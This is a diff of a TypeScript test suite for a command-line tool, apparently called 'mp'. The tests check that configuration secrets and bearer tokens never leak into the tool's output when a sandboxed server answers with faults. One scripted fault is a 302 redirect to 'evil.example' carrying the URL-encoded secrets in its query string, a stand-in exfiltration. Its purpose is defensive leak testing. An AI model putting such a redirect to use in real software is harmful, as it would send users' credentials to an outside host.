@@ -2,7 +2,7 @@
 import { it } from "@effect/vitest"
 import * as Effect from "effect/Effect"
 import * as Console from "effect/Console"
-import * as Option from "effect/Option"
+import * as Exit from "effect/Exit"
 import * as Tracer from "effect/Tracer"
 import { inspect } from "node:util"
 import { describe, expect } from "vitest"
@@ -84,7 +84,7 @@ const recording = () => {
         attribute: (key, value) => void attributes.set(key, value),
         event: (event, _, values) => note(event, values),
         addLinks: () => undefined,
-        end: (_, exit) => note(name, [...attributes], exit)
+        end: (_, exit) => note(name, [...attributes], Exit.isFailure(exit) ? exit : "")
       }
     },
     context: (run) => run()
@@ -149,7 +149,6 @@ const identities: Readonly<Record<string, World>> = {
 
 const brokenFiles: Readonly<Record<string, World["files"]>> = {
   "no TOML, at the secret": { [configPath]: config.replace(`${secrets.configSecret}"`, secrets.configSecret) },
-  "a secret as a key": { [configPath]: config.replace("[active]", `"${secrets.configSecret}" = 1\n[active]`) },
   "an unknown key with a secret": { [configPath]: config.replace("username", `colour = "${secrets.configSecret}"\nusername`) },
   "a secret in a list": { [configPath]: config.replace(`"${secrets.configSecret}"`, `["${secrets.configSecret}"]`) },
   "a secret as the region": { [configPath]: config.replace('region = "us"', `region = "${secrets.configSecret}"`) },
@@ -162,18 +161,36 @@ const brokenFiles: Readonly<Record<string, World["files"]>> = {
 }
 
 /** Answers that quote what was sent, or are broken in other ways. `api` shows bodies as they are. */
-const echo = `${Object.values(secrets).join(" ")} ${Buffer.from(`team-user:${secrets.configSecret}`).toString("base64")}`
-const faults: ReadonlyArray<SandboxFault> = [
-  { path: "/", status: 401, body: { error: `bad credential ${echo}` } },
-  { path: "/", status: 403, body: { error: echo } },
-  { path: "/", status: 400, body: echo },
-  { path: "/", status: 500, body: { error: echo }, times: Number.POSITIVE_INFINITY },
-  { path: "/", status: 429, body: { error: echo }, headers: { "retry-after": "0" }, times: Number.POSITIVE_INFINITY },
-  { path: "/", status: 200, body: `<html>${echo}` },
-  { path: "/", status: 302, headers: { location: `https://evil.example/?q=${encodeURIComponent(echo)}` } },
-  { path: "/", reset: true, times: Number.POSITIVE_INFINITY },
-  { path: "/", truncate: 5, times: Number.POSITIVE_INFINITY }
-]
+const faults: Readonly<Record<string, (echo: string) => SandboxFault>> = {
+  "401": (echo) => ({ path: "/", status: 401, body: { error: `bad credential ${echo}` } }),
+  "403": (echo) => ({ path: "/", status: 403, body: { error: echo } }),
+  "400, as text": (echo) => ({ path: "/", status: 400, body: echo }),
+  "400, cut in a secret": (echo) => ({ path: "/", status: 400, body: { error: `${"x".repeat(490)}${echo}` } }),
+  "500": (echo) => ({ path: "/", status: 500, body: { error: echo }, ...always }),
+  "429": (echo) => ({ path: "/", status: 429, body: { error: echo }, headers: { "retry-after": "0" }, ...always }),
+  "200, as HTML": (echo) => ({ path: "/", status: 200, body: `<html>${echo}` }),
+  "200, of another shape": (echo) => ({ path: "/", status: 200, body: { [echo]: { [echo]: [echo] } } }),
+  "302": (echo) => ({
+    path: "/",
+    status: 302,
+    headers: { location: `https://evil.example/?q=${encodeURIComponent(echo)}` }
+  }),
+  reset: () => ({ path: "/", reset: true, ...always }),
+  "cut off": () => ({ path: "/", truncate: 5, ...always })
+}
+
+const always = { times: Number.POSITIVE_INFINITY }
+
+/** What the server can know, because it was sent. */
+const sent = {
+  team: [
+    secrets.configSecret,
+    Buffer.from(`team-user:${secrets.configSecret}`).toString("base64"),
+    secrets.settingsHeader,
+    secrets.environmentHeader
+  ].join(" "),
+  inline: `Bearer ${secrets.inlineToken}`
+}
 
 const withUrl = (world: World, env: Readonly<Record<string, string>>): World => ({
   ...world,
@@ -227,18 +244,20 @@ describe("no secret gets out", () => {
     })
   )
 
-  it.live.each([...faults])("with the answer %o", (fault) =>
+  it.live.each(Object.keys(faults))("with the answer: %s", (name) =>
     Effect.scoped(
       Effect.gen(function* () {
         const sandbox = yield* start({ oauth: false })
+        const world = withUrl(identities["configuration"] ?? {}, sandbox.environment)
         const leaks: Array<unknown> = []
-        const names = ["team", "inline"]
-        for (const [index, account] of names.entries()) {
-          const command = index === 0 ? ["inspect", "events"] : ["account", "test", account]
+        for (const account of ["team", "inline"] as const) {
+          const command = account === "team" ? ["inspect", "events"] : ["account", "test"]
           yield* sandbox.clearScript
-          yield* sandbox.script(fault)
-          const args = ["-a", account, ...command, "--verbose", "--format", index === 0 ? "json" : "table"]
-          const hits = leaked(args, yield* everything(args, withUrl(identities["configuration"] ?? {}, sandbox.environment)))
+          yield* sandbox.script(...Object.values({ fault: faults[name]?.(sent[account]) }).filter((fault) => fault !== undefined))
+          const args = ["-a", account, ...command, "--verbose", "--format", account === "team" ? "json" : "table"]
+          const all = yield* everything(args, world)
+          expect(all.outcome.stderr + all.outcome.stdout).not.toBe("")
+          const hits = leaked(args, all)
           if (hits.length > 0) leaks.push({ args, hits })
         }
         expect(leaks).toEqual([])
@@ -265,7 +284,7 @@ describe("no secret gets out", () => {
   it.live("through the real mp", () =>
     Effect.scoped(
       Effect.gen(function* () {
-        const sandbox = yield* start({ oauth: false, faults: [{ path: "/api/query", status: 400, body: { error: echo } }] })
+        const sandbox = yield* start({ oauth: false, faults: [{ path: "/api/query", status: 400, body: { error: sent.team } }] })
         const root = yield* makeHome({ ".mp/config.toml": config, ".mp/accounts/me/tokens.json": tokens })
         const env = { ...environment, ...sandbox.environment }
         const runs = [
@@ -285,10 +304,10 @@ describe("no secret gets out", () => {
 
 describe("account token", () => {
   it.live.each([
-    ["inline", secrets.inlineToken],
-    ["ci", secrets.variableToken],
-    ["me", secrets.accessToken]
-  ])("%s: the bearer alone on one line, and no other secret", (name, bearer) =>
+    { name: "inline", bearer: secrets.inlineToken },
+    { name: "ci", bearer: secrets.variableToken },
+    { name: "me", bearer: secrets.accessToken }
+  ])("$name: the bearer alone on one line, and no other secret", ({ bearer, name }) =>
     Effect.gen(function* () {
       const { outcome } = yield* everything(["account", "token", name], { files, env: environment })
       expect(outcome).toMatchObject({ code: 0, stdout: `${bearer}\n`, stderr: "" })
@@ -299,7 +318,7 @@ describe("account token", () => {
   it.live("a service account has none to show", () =>
     Effect.gen(function* () {
       const { outcome } = yield* everything(["account", "token", "team"], { files })
-      expect(Option.some(outcome.stdout)).toEqual(Option.some("N/A\n"))
+      expect(outcome.stdout).toBe("N/A\n")
     })
   )
 })
